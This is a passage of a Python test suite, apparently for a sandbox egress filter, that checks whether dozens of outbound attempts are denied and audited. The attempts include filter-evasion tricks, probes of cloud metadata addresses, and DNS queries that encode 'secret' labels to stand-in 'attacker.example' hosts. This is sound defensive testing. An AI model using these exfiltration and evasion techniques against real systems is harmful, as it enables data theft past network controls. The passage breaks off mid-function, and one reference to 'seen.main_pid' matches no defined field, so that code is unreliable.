# SPDX-License-Identifier: Apache-2.0
"""What a snippet can send: nothing. It learns that at once, and the audit has every attempt.

A row is one way out: how it is tried inside, and what the audit must say of it. Each table of rows runs twice: under the
default policy, where a capture and listeners in the sandbox's own network namespace hear nothing; and under allow-all,
where the same packets arrive. So a row that tries nothing at all fails in the second.
"""
import collections
import errno
import ipaddress
import json
import os
import socket
import struct
import threading
import time
import unittest

from lib import TOP, Capture, Listener, Service, SLOW, bpftool

ALLOW_ALL = os.path.join(TOP, "tests", "policies", "allow-all.json")
AT_ONCE_MS = 50
UDP_PORTS, TCP_PORTS = (53, 5353, 5355, 9999), (53, 80, 443, 853, 8080)

# The module a snippet imports as `tries`: one line of JSON about each try, written by the process that tried.
INSIDE = r'''
import array, asyncio, ctypes, errno, http.client, json, os, socket, struct, subprocess, sys, threading, time, urllib.request
INET, INET6, DGRAM, STREAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
MORE, ZEROCOPY, FASTOPEN = 0x8000, 0x4000000, 0x20000000
BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
libc = ctypes.CDLL(None, use_errno=True)


def attempt(label, fn):
    began = time.monotonic()
    try:
        value, error = fn(), None
    except OSError as e:
        value, error = None, e
    ms = (time.monotonic() - began) * 1000
    with open("/proc/thread-self/comm", "rb") as f:
        command = f.read()[:-1].decode("latin-1")
    if isinstance(getattr(error, "reason", None), OSError):
        error = error.reason  # urllib wraps what it got
    line = {"label": label, "pid": os.getpid(), "command": command, "ms": ms, "value": value,
            "error": error and type(error).__name__, "errno": error and error.errno}
    os.write(1, (json.dumps(line) + "\n").encode())


def open_socket(address, kind, options=()):
    s = socket.socket(INET6 if ":" in address[0] else INET, kind)
    s.settimeout(3)
    for option in options:
        s.setsockopt(*option)
    return s


def udp(address, payload, *options):
    with open_socket(address, DGRAM, options) as s:
        return s.sendto(payload, address)


def udp_connected(address, payload, send=lambda s, payload: s.send(payload), *options):
    with open_socket(address, DGRAM, options) as s:
        s.connect(address)
        return send(s, payload)


def udp_corked(address, payload):
    with open_socket(address, DGRAM) as s:
        s.connect(address)
        for i in range(len(payload) - 1):
            s.send(payload[i : i + 1], MORE)
        return s.send(payload[-1:])


def udp_from_file(address, payload):
    with open("payload", "wb") as f:
        f.write(payload)
    with open("payload", "rb") as f:
        return udp_connected(address, payload, lambda s, p: os.sendfile(s.fileno(), f.fileno(), 0, len(p)))


def tcp(address, *options):
    with open_socket(address, STREAM, options) as s:
        s.connect(address)


def tcp_now(address):
    with open_socket(address, STREAM) as s:
        s.setblocking(False)
        s.connect(address)


def sin(host, port, family=INET):
    return struct.pack("=H", family) + struct.pack("!H4s8x", port, socket.inet_aton(host))


def check(result):
    if result < 0:
        raise OSError.__new__(OSError, ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def raw_sendto(family, payload, name, flags=0, kind=DGRAM):
    """sendto() with any bytes as the address."""
    with socket.socket(family, kind) as s:
        return check(libc.sendto(s.fileno(), payload, len(payload), flags, name, len(name)))


def raw_connect(family, name, payload, kind=DGRAM):
    with socket.socket(family, kind) as s:
        check(libc.connect(s.fileno(), name, len(name)))
        return s.send(payload)


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_long), ("len", ctypes.c_uint)]


def sendmmsg(addresses, payload):
    messages = (mmsghdr * len(addresses))()
    for m, address in zip(messages, addresses):
        m.name, m.namelen = sin(*address), 16
        m.iov, m.iovlen = ctypes.pointer(iovec(payload, len(payload))), 1
    with socket.socket(INET, DGRAM) as s:
        return check(libc.sendmmsg(s.fileno(), messages, len(messages), 0))


def in_thread(fn):
    t = threading.Thread(target=fn)
    t.start()
    t.join()


def in_child(fn):
    pid = os.fork()
    if pid == 0:
        try:
            fn()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def in_orphan(fn):
    """A grandchild in its own session, whose parent is gone."""
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while os.getppid() != 1:
                time.sleep(0.001)
            fn()
            os.write(w, b".")
        os._exit(0)
    os.wait()
    os.read(r, 1)


def in_program(label, code, *shell):
    code = "from tries import *\nattempt(%r, lambda: %s)" % (label, code)
    subprocess.run([*shell, sys.executable, "-c", code], check=True)


def by_passed_socket(label, address, payload):
    """The socket is made and connected here, sent through a socketpair, and used by a child."""
    ours, theirs = socket.socketpair()
    pid = os.fork()
    if pid == 0:
        _, fds, _, _ = socket.recv_fds(theirs, 1, 1)
        attempt(label, lambda: os.write(fds[0], payload))
        os._exit(0)
    with open_socket(address, DGRAM) as s:
        s.connect(address)
        socket.send_fds(ours, [b"."], [s.fileno()])
        os.waitpid(pid, 0)


def by_inherited_socket(label, address, payload):
    """As above, but inherited; the parent has tried it too, so that the socket remembers the parent."""
    with open_socket(address, DGRAM) as s:
        s.connect(address)
        try:
            s.send(payload)
        except OSError:
            pass
        in_child(lambda: attempt(label, lambda: s.send(payload)))


def renamed(name, fn):
    libc.prctl(15, name, 0, 0, 0)  # PR_SET_NAME
    fn()


async def async_connect(address):
    _, writer = await asyncio.open_connection(*address)
    writer.close()
'''

EPERM = ("PermissionError", errno.EPERM)
UNKNOWN_NAME = ("gaierror", socket.EAI_AGAIN)


def question(name, qtype=1, count=1, tail=b"", ident=b"\x12\x34"):
    """A DNS query; `name` as text, or as the bytes of the name on the wire."""
    if isinstance(name, str):
        name = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split(".")) + b"\0"
    additional = 1 if tail.startswith(b"\0\0\x29") else 0
    return ident + struct.pack("!HHHHH", 0x0100, count, 0, 0, additional) + name + struct.pack("!HH", qtype, 1) + tail


EDNS = b"\0\0\x29\x10\0\0\0\0\0\0\0"


class Row:
    """One try.

    code     an expression in the terms of INSIDE, or with whole=True a statement that calls attempt(label, …) itself
    deny     how it must end when it is denied; None: it must not fail
    allow    how it must end when it is allowed; None: it must not fail
    audit    [(protocol, address, port, dns_name, hook)] of a denied try; allow_audit: of an allowed one, if it differs
    arrives  [(protocol, address, port, payload)] of an allowed one, in the capture; heard: those that a listener hears
    """

    def __init__(self, label, code, audit, arrives, heard=None, deny=EPERM, allow=None, allow_audit=None, whole=False, malformed=None, parent_too=0):
        self.label, self.audit, self.arrives, self.deny, self.allow = label, audit, arrives, deny, allow
        self.allow_audit = audit if allow_audit is None else allow_audit
        self.heard = arrives if heard is None else heard
        self.malformed = malformed
        self.parent_too = parent_too  # attempts by the snippet itself that the child's flow starts with
        self.code = code if whole else "attempt(%r, lambda: %s)" % (label, code)

    def per_verdict(self, allowed):
        return (self.allow, self.allow_audit) if allowed else (self.deny, self.audit)


def hook_of(protocol, address):
    return "egress" if protocol == "udp" else "connect6" if ":" in address else "connect4"


def udp_row(label, code, address, port=9999, payload=None, name=None, wire=None, heard=True, **kw):
    """One datagram. {a} in the code is the address as a tuple, {p} the payload."""
    payload = b"weir " + label.encode() if payload is None else payload
    code = code.replace("{a}", repr((address, port))).replace("{p}", repr(payload)).replace("{l}", repr(label))
    on_wire = [("udp", wire or address, port, payload)]
    kw.setdefault("audit", [("udp", wire or address, port, name, "egress")])
    kw.setdefault("arrives", on_wire)
    return Row(label, code, heard=kw.pop("hears", None if heard else []), **kw)


def tcp_row(label, code, address, port=8080, wire=None, heard=True, **kw):
    code = code.replace("{a}", repr((address, port))).replace("{l}", repr(label))
    on_wire = [("tcp", wire or address, port, b"")] if kw.get("allow") is None or heard else []
    kw.setdefault("audit", [("tcp", address, port, None, hook_of("tcp", address))])
    kw.setdefault("arrives", on_wire)
    return Row(label, code, heard=None if heard else [], **kw)


# ---- the tables ----

# Destination, as UDP puts it on the wire when that differs, and how TCP ends when nothing stops it.
NO_TCP, NO_ROUTE = ("OSError", errno.EINVAL), ("OSError", errno.ENETUNREACH)
DESTINATIONS = (
    ("1.1.1.1", None, None),
    ("8.8.8.8", None, None),
    ("10.0.0.1", None, None),
    ("172.16.0.1", None, None),
    ("192.168.1.1", None, None),
    ("169.254.169.254", None, None),
    ("169.254.170.2", None, None),
    ("168.63.129.16", None, None),
    ("100.100.100.200", None, None),
    ("192.0.0.192", None, None),
    ("127.0.0.1", None, None),
    ("127.0.0.53", None, None),
    ("0.0.0.0", "127.0.0.1", None),
    ("0.1.2.3", None, None),
    ("240.0.0.1", None, None),
    ("255.255.255.255", None, NO_TCP),
    ("224.0.0.1", None, NO_TCP),
    ("239.255.255.250", None, NO_TCP),
    ("::1", None, None),
    ("::", "::1", None),
    ("2606:4700:4700::1111", None, None),
    ("fd00::1", None, None),
    ("fd00:ec2::254", None, None),
    ("fec0::1", None, None),
    ("64:ff9b::a9fe:a9fe", None, None),
    ("2002:a9fe:a9fe::1", None, None),
    ("::a00:1", None, None),
    ("::ffff:0:102:304", None, None),
    ("ff0e::1", None, NO_ROUTE),
    ("::ffff:1.1.1.1", "1.1.1.1", None),
    ("::ffff:10.0.0.1", "10.0.0.1", None),
    ("::ffff:127.0.0.1", "127.0.0.1", None),
    ("::ffff:169.254.169.254", "169.254.169.254", None),
    ("::ffff:0.0.0.0", "127.0.0.1", None),
)
SCOPED = (("fe80::1", 1, None), ("ff02::1", 1, NO_ROUTE), ("ff02::fb", 1, NO_ROUTE), ("ff05::2", 1, NO_ROUTE))
MULTICAST = ("255.255.255.255", "224.0.0.1", "239.255.255.250", "ff0e::1", "ff02::1", "ff02::fb", "ff05::2")


def destination_rows():
    rows = []
    for host, wire, tcp_end in DESTINATIONS:
        heard = host not in MULTICAST
        rows.append(udp_row("udp " + host, "udp({a}, {p}, BROADCAST)", host, wire=wire, heard=heard))
        rows.append(tcp_row("tcp " + host, "tcp({a})", host, wire=wire, heard=tcp_end is None, allow=tcp_end))
    for host, scope, tcp_end in SCOPED:
        address = (host, 9999, 0, scope)
        label = "udp %s%%%d" % (host, scope)
        rows.append(udp_row(label, "udp(%r, {p})" % (address,), host, heard=host not in MULTICAST))
        rows.append(tcp_row("tcp %s%%%d" % (host, scope), "tcp(%r)" % ((host, 8080, 0, scope),), host, heard=tcp_end is None, allow=tcp_end))
    # Every way to write one address.
    for spelled in ("2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.16689662"):
        rows.append(udp_row("spelled " + spelled, "udp((%r, 9999), {p})" % spelled, "169.254.169.254"))
    # TCP to the ports that names, web and encrypted names use.
    for port in (53, 80, 443, 853):
        rows.append(tcp_row("tcp port %d" % port, "tcp({a})", "198.51.100.1", port))
        rows.append(tcp_row("tcp6 port %d" % port, "tcp({a})", "2001:db8::1", port))
    # The kernel refuses these before there is a packet, under any policy: nothing to audit.
    rows.append(Row("broadcast unasked", "udp(('255.255.255.255', 9998), b'x')", [], [], deny=("PermissionError", errno.EACCES), allow=("PermissionError", errno.EACCES)))
    return rows


LONG_LABELS = [c * 63 for c in "abc"]
LONG_250 = ".".join(LONG_LABELS + ["d" * 58])
LONG_253 = ".".join(LONG_LABELS + ["d" * 61])
TINY_LABELS = ".".join("abcdefghijklmnopqrstuvwxyz"[i % 26] for i in range(127))
CONTROL = [b"\x1b[31mred", b"a\nb\r", b'"quo\\te"', b"\0nul", b"dot.dot", b"\xff\xfe", b"sp ace"]
CONTROL_TEXT = r"\027\09131mred.a\010b\013.\034quo\092te\034.\000nul.dot\046dot.\255\254.sp\032ace"


def wire_name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


# What is sent to a name server's port, the name and type that the audit must show, and whether it must call it malformed.
NAMES = (
    ("plain", question("secret-4711.attacker.example"), "secret-4711.attacker.example", "A", None),
    ("AAAA", question("six.attacker.example", 28), "six.attacker.example", "AAAA", None),
    ("TXT", question("text.attacker.example", 16), "text.attacker.example", "TXT", None),
    ("unknown type", question("odd.attacker.example", 65280), "odd.attacker.example", "TYPE65280", None),
    ("EDNS", question("edns.attacker.example", tail=EDNS), "edns.attacker.example", "A", None),
    ("uppercase", question("SeCReT.ATTACKER.Example"), "SeCReT.ATTACKER.Example", "A", None),
    ("lowercase", question("secret.attacker.example"), "secret.attacker.example", "A", None),
    ("250 bytes", question(LONG_250), LONG_250, "A", None),
    ("253 bytes", question(LONG_253), LONG_253, "A", None),
    ("127 labels", question(TINY_LABELS), TINY_LABELS, "A", None),
    ("root", question(b"\0", 2), ".", "NS", None),
    ("control characters", question(wire_name(CONTROL)), CONTROL_TEXT, "A", None),
    ("two questions", question("first.example", count=2, tail=wire_name([b"second", b"example"]) + b"\0\1\0\1"), "first.example", "A", None),
    ("data behind the question", question("before.example", tail=b"secret" * 20), "before.example", "A", None),
    ("an answer", b"\0\1\x84\0" + question("answer.example")[4:], "answer.example", "A", None),
    ("no type", question("untyped.example")[:-4], "untyped.example", None, None),
    ("pointer", question(b"\3www\xc0\x0c"), "www", "A", True),
    ("reserved label", question(b"\3abc\x41xyz\0"), "abc", None, True),
    ("label past the end", question(b"\x3fshort")[:-4], "short", None, True),
    ("no end", question(b"\5never\4ends")[:-4], "never.ends", None, True),
    ("over 255 bytes", question(".".join(LONG_LABELS + ["d" * 63, "e" * 63])), ".".join(LONG_LABELS + ["d" * 62]), None, True),
    ("pointer alone", question(b"\xc0\x0c"), None, None, None),
    ("no question", question("none.example", count=0), None, None, None),
    ("header alone", question("x")[:12], None, None, None),
    ("five bytes", b"12345", None, None, None),
    ("empty", b"", None, None, None),
)


def name_rows():
    rows = []
    for n, (label, payload, name, kind, malformed) in enumerate(NAMES):
        for v, address in ((4, "198.51.100.%d" % (10 + n)), (6, "2001:db8:53::%x" % (16 + n))):
            rows.append(udp_row("v%d %s" % (v, label), "udp({a}, {p})", address, 53, payload, name, malformed=(malformed, kind)))
    for port in (5353, 5355):
        rows.append(udp_row("port %d" % port, "udp({a}, {p})", "224.0.0.251", port, question("local-%d.example" % port), "local-%d.example" % port, heard=False))
    # The name is found however the packet was put together.
    for n, (label, code) in enumerate((
        ("connected", "udp_connected({a}, {p})"),
        ("corked byte by byte", "udp_corked({a}, {p})"),
        ("from a file", "udp_from_file({a}, {p})"),
        ("zero copy", "udp_connected({a}, {p}, lambda s, p: s.send(p, ZEROCOPY), (socket.SOL_SOCKET, 60, 1))"),
        ("scattered", "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p[i:i + 1] for i in range(len(p))]))"),
    )):
        payload = question("put-together-%d.example" % n)
        rows.append(udp_row("v4 " + label, code, "203.0.113.%d" % (n + 1), 53, payload, "put-together-%d.example" % n))
        rows.append(udp_row("v6 " + label, code, "2001:db8:5353::%x" % (n + 1), 53, payload, "put-together-%d.example" % n))
    # Also behind whatever headers an unprivileged program can ask for. A routing header's first stop is where the packet goes.
    for n, (label, options) in enumerate((("record route", b"\7\7\4\0\0\0\0\0"), ("timestamp", b"\x44\x08\5\0\0\0\0\0"), ("40 bytes of nothing", b"\1" * 40))):
        rows.append(udp_row(label, "udp({a}, {p}, (0, 4, %r))" % options, "203.0.113.%d" % (10 + n), 53, question("behind-%d.example" % n), "behind-%d.example" % n))
    route = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + 2 * socket.inet_pton(socket.AF_INET6, "2001:db8::99")
    rows.append(udp_row("routing header", "udp({a}, {p}, (41, 57, %r))" % route, "2001:db8:5353::40", 53, question("routed.example"), "routed.example", wire="2001:db8::99", heard=False))
    mapped = question("mapped.example")
    rows.append(udp_row("mapped", "udp(('::ffff:203.0.113.20', 53), {p})", "203.0.113.20", 53, mapped, "mapped.example"))
    rows.append(udp_row("v4 on v6 socket", "raw_sendto(INET6, {p}, sin('203.0.113.21', 53))", "203.0.113.21", 53, mapped, "mapped.example"))
    # Segmented by the kernel after the hook: two queries, one attempt, the first name.
    first, second = question("segment-1.example"), question("segment-2.example")
    rows.append(udp_row("segments", "udp({a}, {p}, (17, 103, %d))" % len(first), "203.0.113.22", 53, first + second, "segment-1.example",
                        hears=[("udp", "203.0.113.22", 53, first), ("udp", "203.0.113.22", 53, second)]))
    # Over TCP there is no packet to read a name from: the connection is what is refused.
    rows.append(tcp_row("dns over tcp", "tcp({a})", "203.0.113.23", 53))
    rows.append(tcp_row("dns over tcp, v6", "tcp({a})", "2001:db8:5353::23", 53))
    return rows


def library_rows(every=True):
    """Names through the C library's resolver. With a policy that lets it ask, nobody answers and it takes a second each."""
    def row(label, code, name, qtype=1, kind="A", **kw):
        kw.setdefault("deny", UNKNOWN_NAME)
        kw.setdefault("allow", kw["deny"])
        return udp_row(label, code.replace("{n}", repr(name)), "127.0.0.1", 53, question(name, qtype), name, malformed=(None, kind), **kw)

    rows = [row("getaddrinfo", "socket.getaddrinfo({n}, 443, INET)", "secret-0.attacker.example")]
    if every:
        rows += [
            row("getaddrinfo, v6", "socket.getaddrinfo({n}, 443, INET6)", "secret-6.attacker.example", 28, "AAAA"),
            row("gethostbyname", "socket.gethostbyname({n})", "secret-1.attacker.example"),
            row("uppercase", "socket.getaddrinfo({n}, 443, INET)", "SECRET-2.Attacker.Example"),
            row("one label", "socket.getaddrinfo({n}, 443, INET)", "secret-3"),
            row("final dot", "socket.getaddrinfo({n} + '.', 443, INET)", "secret-4.attacker.example"),
            row("not ASCII", "socket.getaddrinfo('b\u00fccher.example', 443, INET)", "xn--bcher-kva.example"),
            row("250 bytes", "socket.getaddrinfo({n}, 443, INET)", LONG_250),
            row("gethostbyaddr", "socket.gethostbyaddr('8.8.8.8')", "8.8.8.8.in-addr.arpa", 12, "PTR", deny=("herror", errno.ENOENT)),
            row("in a thread", "in_thread(lambda: attempt({l}, lambda: socket.getaddrinfo({n}, 443, INET)))", "secret-5.attacker.example", whole=True),
            row("in a child", "in_child(lambda: attempt({l}, lambda: socket.getaddrinfo({n}, 443, INET)))", "secret-7.attacker.example", whole=True),
        ]
        # What /etc/hosts and the library itself know needs no packet, and must not fail.
        for name in ("localhost", "sandbox", "1.2.3.4", "::1"):
            rows.append(Row("known " + name, "bool(socket.getaddrinfo(%r, 443))" % name, [], [], deny=None))
    return rows


def way_rows():
    u, t, n = udp_row, tcp_row, iter(range(1, 250))

    def a():
        return "192.0.2.%d" % next(n)

    big, medium = b"b" * 60000, b"m" * 30000
    segment = a()
    mm = [a() for _ in range(3)]
    mm_events = [("udp", host, 9999, None, "egress") for host in mm]
    mm_wire = [("udp", host, 9999, b"mm") for host in mm]
    elsewhere, first = a(), a()
    rows = [
        u("send", "udp_connected({a}, {p})", a()),
        u("write", "udp_connected({a}, {p}, lambda s, p: os.write(s.fileno(), p))", a()),
        u("writev", "udp_connected({a}, {p}, lambda s, p: os.writev(s.fileno(), [p]))", a()),
        u("sendmsg", "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p], [], 0, {a}))", a()),
        u("sendmsg with a source", "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p], [(0, 8, struct.pack('=I4s4s', 1, b'\\x09' * 4, b'\\x08' * 4))]))", a()),
        u("corked", "udp_corked({a}, {p})", a()),
        u("from a file", "udp_from_file({a}, {p})", a()),
        u("zero copy", "udp({a}, {p}, (socket.SOL_SOCKET, 60, 1)) and None", a()),
        u("60000 bytes", "udp({a}, b'b' * 60000)", a(), payload=big),
        u("segments", "udp({a}, b'm' * 30000, (17, 103, 1000))", segment, payload=medium, hears=[("udp", segment, 9999, b"m" * 1000)] * 30),
        Row("too long for a packet", "udp(('192.0.2.250', 9999), b'x' * 70000)", [], [], deny=("OSError", errno.EMSGSIZE), allow=("OSError", errno.EMSGSIZE)),
        Row("sendmmsg", "sendmmsg(%r, b'mm')" % [(h, 9999) for h in mm], mm_events[:1], mm_wire, allow_audit=mm_events),
        u("connected elsewhere", "udp_connected((%r, 9999), {p}, lambda s, p: s.sendto(p, {a}))" % elsewhere, a()),
        u("sendto as AF_UNSPEC", "raw_sendto(INET, {p}, sin(*{a}, family=0))", a()),
        u("AF_INET address on a v6 socket", "raw_sendto(INET6, {p}, sin(*{a}))", a()),
        u("AF_INET connect on a v6 socket", "raw_connect(INET6, sin(*{a}), {p})", a()),
        u("disconnected, then sendto", "udp_connected((%r, 9999), {p}, lambda s, p: (libc.connect(s.fileno(), sin('0.0.0.0', 0, 0), 16), s.sendto(p, {a}))[1])" % first, a()),
        Row("disconnected, then send", "udp_connected(('192.0.2.251', 9999), b'x', lambda s, p: (libc.connect(s.fileno(), sin('0.0.0.0', 0, 0), 16), s.send(p)))", [], [],
            deny=("OSError", errno.EDESTADDRREQ), allow=("OSError", errno.EDESTADDRREQ)),
        u("bound to loopback", "udp({a}, {p}, (socket.SOL_SOCKET, 25, b'lo\\0'))", a()),
        u("from a foreign source", "udp_connected({a}, {p}, lambda s, p: s.send(p), (0, 15, 1))", a()),
        u("from a thread", "in_thread(lambda: attempt({l}, lambda: udp({a}, {p})))", a(), whole=True),
        u("from a child", "in_child(lambda: attempt({l}, lambda: udp({a}, {p})))", a(), whole=True),
        u("from an orphan", "in_orphan(lambda: attempt({l}, lambda: udp({a}, {p})))", a(), whole=True),
        u("from a program", "in_program({l}, 'udp(%r, %r)' % ({a}, {p}))", a(), whole=True),
        u("from a shell's program", "in_program({l}, 'udp(%r, %r)' % ({a}, {p}), '/bin/sh', '-c', '\"$@\"; true', 'sh')", a(), whole=True),
        u("by a passed socket", "by_passed_socket({l}, {a}, {p})", a(), whole=True),
        u("by a child under another name", "in_child(lambda: renamed(b'a\"\\x1b[31m\\n', lambda: attempt({l}, lambda: udp({a}, {p}))))", a(), whole=True),
        u("from a pool", "import multiprocessing\nwith multiprocessing.Pool(1) as pool: pool.apply(attempt_udp, ({l}, {a}, {p}))", a(), whole=True),
        t("tcp nonblocking", "tcp_now({a})", a(), allow=("BlockingIOError", errno.EINPROGRESS)),
        t("tcp fast open", "socket.socket(INET, STREAM).sendto(b'early', FASTOPEN, {a})", a()),
        t("tcp fast open, v6", "socket.socket(INET6, STREAM).sendto(b'early', FASTOPEN, {a})", "2001:db8::f0"),
        t("tcp fast open by connect", "tcp({a}, (6, 30, 1))", a()),
        t("tcp from a thread", "in_thread(lambda: attempt({l}, lambda: tcp({a})))", a(), whole=True),
        t("tcp from a child", "in_child(lambda: attempt({l}, lambda: tcp({a})))", a(), whole=True),
        t("tcp from a program", "in_program({l}, 'tcp(%r)' % ({a},))", a(), whole=True),
        t("create_connection", "socket.create_connection({a}, 3).close()", a()),
        t("asyncio", "asyncio.run(async_connect({a}))", a()),
        t("urllib", "urllib.request.urlopen('http://%s:%d/' % {a}, timeout=3)", a(), allow=("*", None)),
        t("https", "http.client.HTTPSConnection(*{a}, timeout=3).request('GET', '/')", a(), 443, allow=("*", None)),
        Row("v4 address on a v6 stream", "raw_connect(INET6, sin('192.0.2.252', 8080), b'x', STREAM)", [], [], deny=("OSError", errno.EINVAL), allow=("OSError", errno.EINVAL)),
    ]
    # The first packet of this flow is the parent's, so the parent is whom its one event names; both are counted.
    shared = a()
    rows.append(u("by an inherited socket", "by_inherited_socket({l}, {a}, {p})", shared, whole=True, parent_too=1, arrives=[("udp", shared, 9999, b"weir by an inherited socket")] * 2))
    return rows


INSIDE += r'''

def attempt_udp(label, address, payload):
    attempt(label, lambda: udp(address, payload))
'''


# ---- one run, watched ----

Seen = collections.namedtuple("Seen", "answer audit tries packets heard box host_pid uid command")


def transport_of(packet):
    """(protocol, destination, port, payload, TCP flags) of an IP packet."""
    if packet[0] >> 4 == 4:
        header, protocol, to = (packet[0] & 15) * 4, packet[9], socket.inet_ntop(socket.AF_INET, packet[16:20])
    else:
        header, protocol, to = 40, packet[6], socket.inet_ntop(socket.AF_INET6, packet[24:40])
        if protocol == socket.IPPROTO_ROUTING:
            header, protocol = header + (packet[header + 1] + 1) * 8, packet[header]
    body = packet[header:]
    port = struct.unpack("!H", body[2:4])[0] if len(body) >= 4 else None
    if protocol == socket.IPPROTO_UDP:
        return "udp", to, port, body[8:], 0
    if protocol == socket.IPPROTO_TCP:
        return "tcp", to, port, body[(body[12] >> 4) * 4 :], body[13]
    return "ip-proto-%d" % protocol, to, port, body, 0


def first_packets(packets):
    """What was sent on purpose: datagrams and opening SYNs; not the kernel's own answers and acknowledgements."""
    found = []
    for protocol, to, port, payload, flags in map(transport_of, packets):
        if protocol == "udp" or (protocol == "tcp" and flags & 0x12 == 0x02):
            found.append((protocol, to, port, payload if protocol == "udp" else b""))
    return found


def watch(service, code, settle=0.05, **fields):
    """Runs a snippet in the warm sandbox, with a capture and listeners in its network namespace."""
    box, pid = service.warm_box()
    with open("/proc/%d/comm" % pid) as f:
        command = f.read().strip()
    uid = os.stat("/proc/%d" % pid).st_uid
    capture, listener = Capture(pid), Listener(pid, UDP_PORTS, TCP_PORTS)
    try:
        answer = service.run("open('tries.py', 'w').write(%r)\nfrom tries import *\n%s" % (INSIDE, code), **fields)
        time.sleep(settle)  # for what might still be under way
        packets, audit = capture.packets(), service.audit(answer["run_id"])
    finally:
        capture.stop()
        listener.stop()
    if answer["sandbox_id"] != box:
        raise AssertionError("watched %s, but the run got %s" % (box, answer["sandbox_id"]))
    tries = [json.loads(line) for line in answer["stdout"].splitlines()]
    return Seen(answer, audit, tries, packets, list(listener.heard), box, pid, uid, command)


class Rows(unittest.TestCase):
    """Runs a table under self.service's policy."""

    maxDiff = 4000
    options, allowed = (), False
    slowest = {}  # label -> ms, for whoever wants the figures

    @classmethod
    def setUpClass(cls):
        if cls is Rows:
            raise unittest.SkipTest("the tables run in the classes below")
        cls.service = Service(*cls.options, pool=1)

    @classmethod
    def tearDownClass(cls):
        if hasattr(cls, "service"):
            cls.service.stop()

    def check_rows(self, rows):
        self.assertEqual(len({r.label for r in rows}), len(rows))
        code = "\n".join(r.code for r in rows)
        late = None
        # What is slow once may be this machine's doing; what is slow each time is not.
        for _ in range(3):
            seen = watch(self.service, code)
            self.assertEqual(seen.answer["stderr"], "")
            ms = {t["label"]: t["ms"] for t in seen.tries}
            self.check_ends(rows, seen)
            self.check_audit(rows, seen)
            self.check_wire(rows, seen)
            Rows.slowest.update({("allowed " if self.allowed else "denied ") + k: v for k, v in ms.items()})
            late = {k: v for k, v in ms.items() if v > AT_ONCE_MS * SLOW and (late is None or k in late)}
            if self.allowed or not late:
                return
        self.fail("not at once, three times: %r" % late)

    def check_ends(self, rows, seen):
        tries = {t["label"]: t for t in seen.tries}
        self.assertEqual(sorted(t["label"] for t in seen.tries), sorted(r.label for r in rows))
        wrong = []
        for row in rows:
            want, _ = row.per_verdict(self.allowed)
            t = tries[row.label]
            got = (t["error"], t["errno"]) if t["error"] else None
            if want is None and got or want and want[0] != "*" and got != want or want == ("*", None) and not got:
                wrong.append((row.label, "wanted", want, "got", got, t["value"]))
        self.assertEqual(wrong, [])

    def check_audit(self, rows, seen):
        verdict = "allowed" if self.allowed else "denied"
        tries = {t["label"]: t for t in seen.tries}
        want = collections.Counter()
        for row in rows:
            _, events = row.per_verdict(self.allowed)
            t = tries[row.label]
            for protocol, address, port, name, hook in events:
                who = (seen.main_pid, seen.command) if row.parent_too else (t["pid"], t["command"])
                want[(protocol, address, port, name, hook, verdict) + who] += 1 + row.parent_too
        events = seen.audit["events"]
        got = [(e["protocol"], e["address"], e["port"], e["dns_name"], e["hook"], e["verdict"], e["pid"], unescape(e["command"]), e["count"]) for e in events]
        self.assertEqual(sorted(got, key=repr), sorted((k + (n,) for k, n in want.items()), key=repr))

        attempts = sum(want.values())
        counts = {"attempts": attempts, "denied": 0 if self.allowed else attempts, "allowed": attempts if self.allowed else 0, "lost": 0}
        self.assertEqual({k: seen.answer["egress"][k] for k in counts}, counts)
        self.assertEqual(seen.audit["egress"], dict(counts, exact=True))
        listed = [{k: e[k] for k in ("protocol", "address", "port", "dns_name", "verdict", "count")} for e in events[:16]]
        self.assertEqual(seen.answer["egress"]["destinations"], listed)

        self.assertEqual((seen.audit["sandbox_id"], seen.audit["run_id"]), (seen.box, seen.box))
        hosts = {}
        for e in events:
            self.assertEqual((e["uid"], e["attribution"], e["reason"]), (seen.uid, "current", "default"), e)
            self.assertTrue(seen.audit["began"] <= e["time"] <= seen.audit["ended"], e)
            self.assertEqual(hosts.setdefault(e["pid"], e["host_pid"]), e["host_pid"], e)
        self.assertEqual(hosts[seen.main_pid], seen.host_pid)
        self.assertEqual(len(set(hosts.values())), len(hosts))
        self.assertTrue(all(isinstance(pid, int) and pid > 1 for pid in hosts.values()), hosts)

        kinds = {(e["address"], e["port"], e["dns_name"]): e for e in events}
        for row in rows:
            if row.malformed is None:
                continue
            _, address, port, name, _ = row.audit[0]
            malformed, kind = row.malformed
            self.assertEqual(kinds[address, port, name].get("dns_malformed"), malformed, row.label)
            if kind:
                self.assertEqual(kinds[address, port, name]["dns_type"], kind, row.label)

    def check_wire(self, rows, seen):
        if not self.allowed:
            self.assertEqual(list(map(transport_of, seen.packets)), [])
            self.assertEqual(seen.heard, [])
            return
        left, heard = first_packets(seen.packets), seen.heard
        want = [p for r in rows for p in r.arrives]
        self.assertEqual(shorten(left), shorten(want))
        # Whether a socket that joined no group hears a multicast is up to the kernel; the capture has it.
        heard, must = collections.Counter(shorten(heard)), collections.Counter(shorten(p for r in rows for p in r.heard))
        may = must | collections.Counter(shorten(want))
        self.assertEqual((must - heard, heard - may), (collections.Counter(), collections.Counter()))


def shorten(packets):
    """Sorted and comparable; a query's id is random when the C library has made it."""
    return sorted((p, str(ipaddress.ip_address(a)), n, (payload[2:] if n == 53 else payload)[:80], len(payload)) for p, a, n, payload in packets)


def pinned_entries(service, name):
    return len(bpftool("map", "dump", "pinned", os.path.join(service.pins(), name)))


def unescape(command):
